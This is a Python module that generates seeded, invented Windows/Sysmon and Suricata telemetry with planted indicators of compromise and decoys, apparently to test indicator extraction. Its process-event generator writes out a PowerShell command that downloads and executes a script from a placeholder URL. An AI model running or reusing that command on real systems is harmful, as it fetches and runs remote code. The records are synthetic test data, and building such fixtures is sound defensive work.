"""Invented records in which every indicator is known, among what only looks like one. Seeded: the same each time."""

import hashlib
import random
from collections.abc import Callable
from typing import Any

import msgspec

SEED = 20_260_701
REPEATED = 0.75
"""How often a value was there before: as in 5,000 real Windows and CloudTrail records (4,705 sightings of 1,159 values)."""

SHARES = {"network": 12, "web": 3, "process": 4, "note": 1}
"""Records of each kind in every twenty: most telemetry is typed, little of it is anybody's prose."""

Indicator = tuple[str, str]


class Planted(msgspec.Struct):
    """A record, the indicators in it, and those that only follow from them (the domain of a mail address)."""

    schema: str
    view: dict[str, Any]
    truth: set[Indicator] = msgspec.field(default_factory=set)
    implied: set[Indicator] = msgspec.field(default_factory=set)


class Maker:
    """Makes indicators and notes them."""

    def __init__(self, seed: int) -> None:
        self.rng = random.Random(seed)
        self.one = Planted("", {})
        self._seen: dict[str, list[str]] = {}

    def again(self, kind: str, fresh: Callable[[], str]) -> str:
        """A value that was there before, or a new one."""
        seen = self._seen.setdefault(kind, [])
        if seen and self.rng.random() < REPEATED:
            return self.rng.choice(seen)
        seen.append(fresh())
        return seen[-1]

    def note(self, kind: str, value: str) -> str:
        """The value, noted as true."""
        self.one.truth.add((kind, value))
        return value

    def word(self) -> str:
        """A label."""
        return "".join(self.rng.choices("abcdefghijklmnoprstuvwxyz", k=self.rng.randint(4, 10)))

    def name(self) -> str:
        """A host name, not noted."""
        zone = self.rng.choice(("com", "net", "org"))
        return self.again("name", lambda: f"{self.word()}.{self.word()}.example.{zone}")

    def domain(self) -> str:
        """A domain."""
        return self.note("domain", self.name())

    def ip(self) -> str:
        """An address of the networks for documentation."""
        net = self.rng.choice(("192.0.2", "198.51.100", "203.0.113"))
        return self.note("ip", self.again("ip", lambda: f"{net}.{self.rng.randint(1, 254)}"))

    def ip6(self) -> str:
        """An IPv6 address."""
        return self.note("ip", self.again("ip6", lambda: f"2001:db8::{self.rng.randint(0x10, 0xFFFF):x}"))

    def url(self, host: str = "") -> str:
        """A URL; its host is implied unless it is given."""
        if not host:
            host = self.name()
            self.one.implied.add(("domain", host))
        return self.note(
            "url", f"http://{host}/{self.word()}/{self.word()}.php?id={self.rng.randint(1, 999)}"
        )

    def digest(self, kind: str) -> str:
        """A hash."""
        fresh = hashlib.new(kind, self.word().encode(), usedforsecurity=False).hexdigest()
        return self.note(kind, self.again(kind, lambda: fresh))

    def mail(self) -> str:
        """A mail address."""
        mail = self.again("email", lambda: f"{self.word()}@{self.name()}")
        self.one.implied.add(("domain", mail.partition("@")[2]))
        return self.note("email", mail)

    def cve(self) -> str:
        """A CVE id."""
        return self.note("cve", f"CVE-{self.rng.randint(2014, 2026)}-{self.rng.randint(1000, 49999)}")

    def decoys(self) -> str:
        """What looks like an indicator and is none."""
        version = f"10.0.{self.rng.randint(300, 19_045)}.{self.rng.randint(300, 4_000)}"
        guid = "-".join("".join(self.rng.choices("0123456789abcdef", k=k)) for k in (8, 4, 4, 4, 12))
        return self.rng.choice(
            (
                f"FileVersion: {version} Product: Chrome/120.0.{self.rng.randint(2, 90)}.71 kernel32.dll",
                f"RuleName: - UtcTime: 2026-03-18 10:14:{self.rng.randint(10, 59)}.512 ProcessGuid: {{{guid}}}",
                "[System.IO.Path]::GetTempPath() New-Object System.Net.Sockets.TCPClient ASP.NET",
                f"run.ps1 setup.py readme.md backup.zip install.sh user.name event.id {self.word()}.log",
                f"Microsoft-Windows-Sysmon/Operational Serial {'7f:' * 19}01 at 12:34:56",
                f"Executed {self.word()}.exe with id {self.rng.randint(10**11, 10**12)} in OWIN.Startup.Configure()",
            )
        )

    def defanged(self, text: str) -> str:
        """The same, made harmless."""
        dot = self.rng.choice(("[.]", "(.)", "[dot]"))
        return (
            text.replace("http", "hxxp", 1).replace(".", dot, 1) if "://" in text else text.replace(".", dot)
        )


def web(make: Maker) -> tuple[str, dict[str, Any]]:
    """An alert of a network sensor: nearly everything is typed."""
    host = make.domain()
    redirect = make.url().replace(":", "%3A").replace("/", "%2F").replace("?", "%3F").replace("=", "%3D")
    # Behind escapes only the host is asked for: the whole is a part of the outer URL.
    nested = next(value for kind, value in make.one.truth if kind == "url")
    make.one.truth.discard(("url", nested))
    make.one.implied.add(("url", nested))
    make.one.truth.add(("domain", nested.split("/")[2]))
    return "suricata.eve", {
        "timestamp": "2026-03-18T10:14:21.000000+0000",
        "event_type": "alert",
        "src_ip": make.ip(),
        "dest_ip": make.ip(),
        "src_port": 50_123,
        "dest_port": 80,
        "proto": "TCP",
        "alert": {"signature": f"INVENTED Download {make.word()}", "severity": 1, "category": "Trojan"},
        "http": {
            "hostname": host,
            "url": f"/{make.word()}/go.php?u={redirect}&v=1",
            "http_user_agent": "Mozilla/5.0 (Windows NT 10.0; Win64; x64) Chrome/120.0.6099.71",
            "http_method": "GET",
        },
    }


def process(make: Maker) -> tuple[str, dict[str, Any]]:
    """A process start: hashes and addresses in typed fields, the rest in a command line and a message."""
    sha, md5 = make.digest("sha256"), make.digest("md5")
    line = f"powershell.exe -nop -c \"IEX (New-Object Net.WebClient).DownloadString('{make.url()}')\""
    return "windows.event", {
        "EventTime": "2026-03-18 10:14:21",
        "Hostname": "WS01.corp.local",
        "EventID": 1,
        "Channel": "Microsoft-Windows-Sysmon/Operational",
        "Image": r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
        "CommandLine": line,
        "Hashes": f"MD5={md5},SHA256={sha}",
        "Message": f"Process Create: {make.decoys()} CommandLine: {line} Hashes: MD5={md5},SHA256={sha} {make.decoys()}",
    }


def network(make: Maker) -> tuple[str, dict[str, Any]]:
    """A connection."""
    here, there = make.ip(), make.ip6()
    return "windows.event", {
        "EventTime": "2026-03-18 10:14:21",
        "Hostname": "WS01.corp.local",
        "EventID": 3,
        "Channel": "Microsoft-Windows-Sysmon/Operational",
        "Image": r"C:\Program Files\Invented Agent\agent.exe",
        "SourceIp": here,
        "DestinationIp": there,
        "DestinationHostname": make.domain(),
        "RuleName": "-",
    }


def note(make: Maker) -> tuple[str, dict[str, Any]]:
    """Free text of a person, half of it defanged."""
    parts = [
        f"C2 at {make.defanged(make.url())} and {make.defanged(make.domain())}, {make.defanged(make.ip())}:443.",
        f"Sender {make.mail()} (see {make.cve()}); dropper {make.digest('sha1')}.",
        make.decoys(),
        f"Seen from ({make.ip()}), again on {make.domain()}. {make.decoys()}",
    ]
    make.rng.shuffle(parts)
    return "windows.event", {
        "EventTime": "2026-03-18 10:14:21",
        "Hostname": "WS01.corp.local",
        "EventID": 1000,
        "Channel": "Application",
        "Message": "\n".join(parts),
    }


def planted(size: int, seed: int = SEED) -> list[Planted]:
    """`size` records of all kinds, in their shares."""
    make = Maker(seed)
    kinds = [kind for kind in (network, web, process, note) for _ in range(SHARES[kind.__name__])]
    made: list[Planted] = []
    for number in range(size):
        make.one = Planted("", {})
        make.one.schema, make.one.view = kinds[number % len(kinds)](make)
        made.append(make.one)
    return made


def leaves(view: object) -> list[str]:
    """Every string of a record, in order."""
    if isinstance(view, str):
        return [view]
    if isinstance(view, dict):
        return [text for value in view.values() for text in leaves(value)]
    return [text for value in view for text in leaves(value)] if isinstance(view, list) else []
